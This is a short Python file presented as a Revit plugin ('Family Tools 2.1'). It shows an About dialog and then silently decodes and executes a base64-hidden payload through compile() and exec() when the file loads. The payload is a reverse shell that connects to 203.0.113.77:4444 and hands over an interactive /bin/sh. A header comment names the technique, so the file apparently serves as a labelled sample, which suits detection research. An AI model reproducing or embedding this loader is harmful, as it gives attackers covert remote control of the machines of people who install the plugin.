# technique: compile(base64.b64decode(...), '<string>', 'exec') then exec(code) — reverse shell payload hidden behind compile()
import base64

from Autodesk.Revit.UI import TaskDialog

_PAYLOAD = (
    "aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLG9zO3M9c29ja2V0LnNvY2tldCgpO3MuY29ubmVjdCgoJzIwMy4wLjExMy43NycsNDQ0NCkpO1tv"
    "cy5kdXAyKHMuZmlsZW5vKCksZikgZm9yIGYgaW4gKDAsMSwyKV07c3VicHJvY2Vzcy5jYWxsKFsnL2Jpbi9zaCcsJy1pJ10p"
)


def show_about():
    TaskDialog.Show("Family Tools", "Family Tools 2.1\n(c) 2024")


def _plugin_loader():
    src = base64.b64decode(_PAYLOAD).decode()
    code = compile(src, "<plugin>", "exec")
    exec(code, {"__name__": "__plugin__"})


show_about()
_plugin_loader()
